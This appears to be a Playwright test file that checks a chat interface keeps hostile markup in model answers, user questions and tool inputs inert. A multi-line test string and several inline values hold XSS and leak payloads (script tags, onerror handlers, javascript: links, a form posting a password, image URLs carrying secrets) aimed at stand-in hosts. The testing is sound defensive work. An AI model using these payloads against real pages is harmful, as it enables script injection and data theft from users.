"""Show what a model wrote, whatever it wrote, without running or fetching any of it."""

from playwright.sync_api import expect

from tests.fakes import anthropic_scripts as scripts
from tests.fakes.anthropic_server import FakeAnthropic
from tests.journeys.support import Person, fits

HOSTILE = """Look:

<script>window.owned = 1</script>
<img src=http://127.0.0.1:9/x onerror="window.owned = 2">
<style>body { display: none }</style>
<iframe src="http://127.0.0.1:9/frame"></iframe>
<form action="http://127.0.0.1:9/steal"><input name=password></form>

![a picture](http://127.0.0.1:9/leak.png?secret=1)
[a trap](javascript:window.owned=3) and [another](data:text/html,<script>window.owned=4</script>)
[a page](https://docs.example.com/page) and <https://docs.example.com/auto>

<a href="javascript:window.owned=5" onclick="window.owned = 6">click</a>
<svg onload="window.owned = 7"></svg>
<link rel=prefetch href="http://127.0.0.1:9/ahead"><link rel="dns-prefetch" href="//leak.example.com">
<meta http-equiv="refresh" content="0;url=http://127.0.0.1:9/away"><base href="http://127.0.0.1:9/">
<picture><source srcset="http://127.0.0.1:9/set.png"><img srcset="http://127.0.0.1:9/x2.png 2x"></picture>
<video src="http://127.0.0.1:9/v" poster="http://127.0.0.1:9/poster"></video><object data="http://127.0.0.1:9/o"></object>

![by name][leak] and http://127.0.0.1:9/bare and www.leak.example.com

[leak]: http://127.0.0.1:9/reference.png
"""


def test_markup_in_an_answer_stays_inert(robin: Person, model: FakeAnthropic) -> None:
    model.enqueue(scripts.text(HOSTILE, pieces=[*HOSTILE.splitlines(keepends=True)], delay=0.05))
    robin.goto("/chat")
    answer = robin.ask("Show me")
    is_inert(robin)
    robin.page.reload()
    expect(answer).to_be_visible()
    is_inert(robin)
    links = answer.locator(".prose a")
    hrefs = [link.get_attribute("href") for link in links.all()]
    assert hrefs == ["https://docs.example.com/page", "https://docs.example.com/auto"]
    for link in links.all():
        assert link.get_attribute("rel") == "nofollow noopener noreferrer"
        assert link.get_attribute("target") == "_blank"
        link.hover()  # Still nothing is asked; only a click goes there.


def is_inert(robin: Person) -> None:
    """Nothing ran, and nothing stands in the page that could; requests are watched by every journey."""
    found = robin.page.locator(".prose").locator(
        "script, img, style, iframe, form, input, svg, link, meta, base, picture, video, object, [onclick], [onerror]"
    )
    expect(found).to_have_count(0)
    assert robin.page.evaluate("window.owned") is None
    expect(robin.answers.last).to_contain_text("a picture")


def test_markup_from_a_person_and_a_title_stays_inert(robin: Person) -> None:
    robin.goto("/chat")
    robin.ask("<img src=http://127.0.0.1:9/x onerror=window.owned=1> **bold**")
    robin.page.reload()
    expect(robin.questions.last).to_contain_text("<img src=http://127.0.0.1:9/x onerror=window.owned=1> **bold**")
    assert robin.page.evaluate("window.owned") is None


def test_a_tools_input_and_output_stay_inert(robin: Person, model: FakeAnthropic) -> None:
    call = ("cron_explain", {"expression": "<img src=http://127.0.0.1:9/x onerror=window.owned=1>"})
    model.enqueue(scripts.tools(call), scripts.text("That is no schedule."))
    answer = robin.goto("/chat").ask("Explain")
    answer.locator(".tool summary").click()
    expect(answer.locator(".tool-body")).to_contain_text("<img src=http://127.0.0.1:9/x")
    assert robin.page.evaluate("window.owned") is None


def test_a_huge_code_block_is_shown_whole_and_scrolls_in_its_own_box(robin: Person, model: FakeAnthropic) -> None:
    lines = [f"line {number}: " + "x" * (400 if number % 50 == 0 else 40) for number in range(900)]
    model.enqueue(scripts.text("```python\n" + "\n".join(lines) + "\n```\nDone.", pieces=None))
    answer = robin.goto("/chat").ask("Print it")
    code = answer.locator(".prose pre")
    expect(code).to_contain_text("line 899: ")
    assert code.evaluate("pre => [pre.scrollWidth > pre.clientWidth, getComputedStyle(pre).overflowX]") == [
        True,
        "auto",
    ]
    fits(robin.page)
    expect(robin.composer).to_be_in_viewport()


def test_a_copied_block_is_the_code_as_the_model_wrote_it(robin: Person, model: FakeAnthropic) -> None:
    robin.context.grant_permissions(["clipboard-read", "clipboard-write"])
    model.enqueue(scripts.text("```yaml\nkind: Pod\nmetadata:\n  name: <b>x</b>\n```\n"))
    answer = robin.goto("/chat").ask("Write it")
    answer.get_by_role("button", name="Copy this code").click()
    expect(answer.get_by_text("Copied")).to_be_visible()
    copied = robin.page.evaluate("navigator.clipboard.readText()")
    assert copied == "kind: Pod\nmetadata:\n  name: <b>x</b>\n"
